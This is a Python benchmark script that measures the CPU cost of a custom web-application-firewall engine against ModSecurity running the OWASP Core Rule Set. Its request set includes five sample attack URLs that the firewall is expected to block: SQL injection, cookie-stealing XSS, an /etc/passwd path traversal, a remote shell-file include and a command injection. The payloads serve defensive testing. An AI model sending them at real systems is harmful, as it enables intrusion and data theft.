"""OWASP CRS 4.28 at paranoia level 1, blocking: our SecLang engine against ModSecurity (libmodsecurity
3.0.15) in the same run, on the same requests and rules.

Run: `python -m bench.crs_bench [iterations]`. For each request of issue 17's set, CPU time per
evaluation (phases 1, 2 and 5; `time.process_time_ns` around each call, interleaved between the two
engines so drift hits both), median and p99, and the ratio ours / ModSecurity; then the load times.
Each request is measured twice: `repeat` sends the same bytes every time (a best case: our engine
keeps per-value results across transactions, ModSecurity keeps nothing); `fresh` gives every
evaluation new values where real traffic has them (query arguments, the session cookie, form,
JSON and multipart fields) and keeps what browsers repeat (the other headers). `fresh` is the
figure to quote. The heap is frozen after loading, as the edge does (edge/process.settle_heap).
Needs the CRS 4.28.0 release with its regression suite (found as tests/crs_regression.shared_dir() says);
results go to bench/crs.md by hand.
"""

from __future__ import annotations

import gc
import itertools
import json
import statistics
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

if __package__ in (None, ""):  # run as `python bench/crs_bench.py` (bench/__main__ does): the repo root
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from bench.modsec_oracle import ModSecurityOracle
from originguard.waf.seclang.transaction import HttpRequest

# The recommended engine setup of ModSecurity v3 (modsecurity.conf-recommended), blocking.
ENGINE_SETUP = r"""
SecRuleEngine On
SecRequestBodyAccess On
SecRule REQUEST_HEADERS:Content-Type "^(?:application(?:/soap\+|/)|text/)xml" \
  "id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule REQUEST_HEADERS:Content-Type "^application/json" \
  "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
SecRequestBodyLimit 13107200
SecRequestBodyNoFilesLimit 131072
SecRequestBodyLimitAction Reject
SecRule REQBODY_ERROR "!@eq 0" \
  "id:200002,phase:2,t:none,log,deny,status:400,msg:'Failed to parse request body.',severity:2"
SecResponseBodyAccess On
SecResponseBodyMimeType text/plain text/html text/xml
SecResponseBodyLimit 524288
SecResponseBodyLimitAction ProcessPartial
"""

BROWSER: tuple[tuple[bytes, bytes], ...] = (
    (b"Host", b"shop.example"),
    (
        b"User-Agent",
        b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    ),
    (b"Accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    (b"Accept-Language", b"en-GB,en;q=0.9"),
    (b"Accept-Encoding", b"gzip, deflate, br"),
    (b"Referer", b"https://shop.example/"),
    (b"Connection", b"keep-alive"),
    (b"Upgrade-Insecure-Requests", b"1"),
    (b"Sec-Fetch-Dest", b"document"),
    (b"Sec-Fetch-Mode", b"navigate"),
    (b"Sec-Fetch-Site", b"same-origin"),
)


def _cookies() -> bytes:
    """30 cookies, 4 KiB: analytics ids, a session, preferences (base64-ish values, as browsers send)."""
    parts = [f"_ga_c{i:02d}=GA1.2.{1700000000 + i * 7919}.{'x7Yq2Lp9' * 12}" for i in range(29)]
    text = "; ".join(parts) + "; session="
    return (text + "9f8e7d6c5b4a3f2e1d0c" * 205)[:4096].encode()


def _multipart() -> tuple[bytes, bytes]:
    boundary = b"----WebKitFormBoundary7MA4YWxkTrZu0gW"
    fields = [(b"title", b"Holiday photos"), (b"album", b"summer-2026"), (b"visibility", b"friends")]
    fields.append((b"description", b"Pictures from the trip to the coast, day 3 and 4."))
    out = b"".join(
        b"--"
        + boundary
        + b'\r\nContent-Disposition: form-data; name="'
        + name
        + b'"\r\n\r\n'
        + value
        + b"\r\n"
        for name, value in fields
    )
    head = b"--" + boundary + b'\r\nContent-Disposition: form-data; name="photo"; filename="beach.jpg"\r\n'
    head += b"Content-Type: image/jpeg\r\n\r\n"
    tail = b"\r\n--" + boundary + b"--\r\n"
    # Bytes shaped like JPEG data: every byte value, no text a rule looks for.
    size = 64 * 1024 - len(out) - len(head) - len(tail)
    photo = (b"\xff\xd8\xff\xe0" + bytes((i * 37 + 11) % 256 for i in range(size)))[:size]
    body = out + head + photo + tail
    return b"multipart/form-data; boundary=" + boundary, body


def _json_body() -> bytes:
    """An order of 2 KiB: nested objects, an array of line items, numbers and strings."""
    items: list[dict[str, Any]] = []
    document: dict[str, Any] = {"customer": {"id": 48213, "email": "ann@example.com"}, "items": items}
    document["note"] = "Leave at the door"
    while len(json.dumps(document)) < 2048 - 90:
        i = len(items)
        items.append(
            {"sku": f"AB-{1000 + i}", "qty": i % 3 + 1, "name": f"Running shoe model {i}", "price": 59.9}
        )
    text = json.dumps(document)
    document["note"] += " " * (2048 - len(text))
    return json.dumps(document).encode()


def _post(target: bytes, content_type: bytes, body: bytes) -> HttpRequest:
    headers = (*BROWSER, (b"Content-Type", content_type), (b"Content-Length", str(len(body)).encode()))
    return HttpRequest(b"POST", target, b"HTTP/1.1", headers, body)


def _get(target: bytes, *extra: tuple[bytes, bytes]) -> HttpRequest:
    return HttpRequest(b"GET", target, b"HTTP/1.1", (*BROWSER, *extra))


def request_set() -> dict[str, HttpRequest]:
    """Issue 17's requests: five benign shapes, then one attack of each kind."""
    multipart_type, multipart_body = _multipart()
    form = "&".join(f"field{i}=value+number+{i}" for i in range(20)).encode()
    return {
        "GET, 3 query args": _get(b"/search?q=running+shoes&page=2&sort=price"),
        "GET + 4 KiB Cookie (30)": _get(
            b"/search?q=running+shoes&page=2&sort=price", (b"Cookie", _cookies())
        ),
        "POST urlencoded, 20 fields": _post(b"/account/profile", b"application/x-www-form-urlencoded", form),
        "POST JSON, 2 KiB": _post(b"/api/orders", b"application/json", _json_body()),
        "POST multipart 64 KiB, 5 fields": _post(b"/upload", multipart_type, multipart_body),
        "attack SQLi": _get(b"/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
        "attack XSS": _get(b"/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
        "attack LFI": _get(b"/download?file=../../../../etc/passwd"),
        "attack RFI": _get(b"/page?include=http://203.0.113.9/shell.txt?"),
        "attack RCE": _get(b"/ping?host=127.0.0.1;cat%20/etc/passwd"),
    }


def fresh_values(request: HttpRequest, serial: int) -> HttpRequest:
    """`request` with the values that differ from one real request to the next made unique."""
    mark = str(serial).encode()
    target = request.target.replace(b"running+shoes", b"running+shoes+" + mark)
    target = target.replace(b"page=2", b"page=" + mark)
    if target == request.target and b"?" in target:
        target += b"&n=" + mark  # the attacks: a fresh argument beside the payload
    headers = tuple(
        (name, value.replace(b"9f8e7d6c5b4a", mark.rjust(12, b"0")) if name == b"Cookie" else value)
        for name, value in request.headers
    )
    body = request.body.replace(b"value+number", b"value+" + mark)
    body = body.replace(b"Leave at the door", b"Leave at door " + mark)
    body = body.replace(b"day 3 and 4", b"day " + mark)
    if body != request.body:
        length = str(len(body)).encode()
        headers = tuple((n, length if n == b"Content-Length" else v) for n, v in headers)
    return request._replace(target=target, headers=headers, body=body)


def crs_root() -> Path:
    from tests.crs_regression import crs_dir

    return crs_dir()


def setup_text(root: Path) -> str:
    return ENGINE_SETUP + (root / "crs-setup.conf.example").read_text()


def load_engines(root: Path) -> tuple[dict[str, Callable[[HttpRequest], Any]], dict[str, float]]:
    """Each engine's `evaluate(request) -> verdict` (ours only once the engine exists), load seconds."""
    from tests.crs_regression import crs_rule_files, engine_api

    files = crs_rule_files(root)
    start = time.perf_counter()
    oracle = ModSecurityOracle(files, before=setup_text(root))
    loads = {"modsec": time.perf_counter() - start}
    engines: dict[str, Callable[[HttpRequest], Any]] = {"modsec": oracle.evaluate}
    api = engine_api()
    if api is not None:
        load_ruleset = api.load_ruleset
        start = time.perf_counter()
        ruleset = load_ruleset(files, before=setup_text(root), data_dirs=(root / "rules",))
        loads["ours"] = time.perf_counter() - start
        engines = {"ours": ruleset.evaluate_request, **engines}
    return engines, loads


def check(engines: dict[str, Callable[[HttpRequest], Any]], name: str, request: HttpRequest) -> None:
    """Each scenario gets what its title says: attacks blocked (403), the rest let through."""
    for engine, evaluate in engines.items():
        verdict = evaluate(request)
        if verdict.interrupted != name.startswith("attack"):
            raise SystemExit(
                f"{engine}: {name!r} interrupted={verdict.interrupted} (status {verdict.status})"
            )


def measure(
    engines: dict[str, Callable[[HttpRequest], Any]], requests: list[HttpRequest], warm_up: int
) -> dict[str, list[int]]:
    """CPU ns per evaluation for each engine, interleaved call by call; the first `warm_up`
    requests (caches, lazy compiles) are not counted."""
    samples: dict[str, list[int]] = {name: [] for name in engines}
    clock = time.process_time_ns
    for i, request in enumerate(requests):
        for name, evaluate in engines.items():
            start = clock()
            evaluate(request)
            elapsed = clock() - start
            if i >= warm_up:
                samples[name].append(elapsed)
    return samples


def p99(values: list[int]) -> float:
    return statistics.quantiles(values, n=100, method="inclusive")[98]


def main() -> None:
    rounds = int(sys.argv[1]) if len(sys.argv) > 1 else 300
    engines, loads = load_engines(crs_root())
    gc.collect()
    gc.freeze()
    print(f"CRS 4.28.0, PL1, blocking; {rounds} evaluations per request and engine, CPU µs per request")
    columns = ("ours med", "ours p99", "msc med", "msc p99", "med ratio", "p99 ratio")
    print(f"{'request':40}" + "".join(f" {c:>9}" for c in columns))
    warm_up = max(3, rounds // 20)
    for (title, request), mode in itertools.product(request_set().items(), ("repeat", "fresh")):
        check(engines, title, request)
        if mode == "repeat":
            requests = [request] * (warm_up + rounds)
        else:
            requests = [fresh_values(request, 100_000 + i) for i in range(warm_up + rounds)]
            check(engines, title, requests[-1])
        samples = measure(engines, requests, warm_up)
        name = f"{title} ({mode})"
        msc_med, msc_p99 = statistics.median(samples["modsec"]) / 1e3, p99(samples["modsec"]) / 1e3
        if "ours" not in samples:
            print(f"{name:40} {'-':>9} {'-':>9} {msc_med:9.0f} {msc_p99:9.0f}", flush=True)
            continue
        ours_med, ours_p99 = statistics.median(samples["ours"]) / 1e3, p99(samples["ours"]) / 1e3
        ratios = f" {ours_med / msc_med:8.3f}× {ours_p99 / msc_p99:8.3f}×"
        print(f"{name:40} {ours_med:9.0f} {ours_p99:9.0f} {msc_med:9.0f} {msc_p99:9.0f}" + ratios, flush=True)
    print("load: " + ", ".join(f"{engine} {seconds:.2f} s" for engine, seconds in loads.items()))


if __name__ == "__main__":
    main()
